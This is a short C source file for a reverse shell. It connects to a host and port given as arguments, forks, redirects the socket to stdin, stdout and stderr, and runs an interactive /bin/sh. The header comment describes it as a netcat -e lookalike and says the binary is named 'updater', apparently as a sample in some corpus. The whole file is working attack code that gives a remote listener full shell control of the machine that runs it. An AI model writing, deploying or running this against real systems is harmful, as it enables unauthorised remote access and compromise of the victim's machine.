/* An nc -e lookalike: connect to HOST PORT, fork, and in the child put the socket on stdin,
 * stdout and stderr and exec /bin/sh. The dup2 happens in a child of the process that
 * connected, as in netcat's -e and most compiled reverse shells.
 * Usage: revshell_fork HOST PORT   (the corpus names the binary "updater") */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    if (argc != 3) {
        fprintf(stderr, "usage: %s HOST PORT\n", argv[0]);
        return 2;
    }
    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[2]))};
    if (inet_pton(AF_INET, argv[1], &sa.sin_addr) != 1)
        return 2;
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (s < 0 || connect(s, (struct sockaddr *)&sa, sizeof sa) < 0) {
        perror("connect");
        return 1;
    }
    pid_t pid = fork();
    if (pid == 0) {
        dup2(s, 0);
        dup2(s, 1);
        dup2(s, 2);
        execl("/bin/sh", "sh", "-i", (char *)NULL);
        _exit(127);
    }
    close(s);
    int status = 0;
    if (pid > 0)
        waitpid(pid, &status, 0);
    return 0;
}
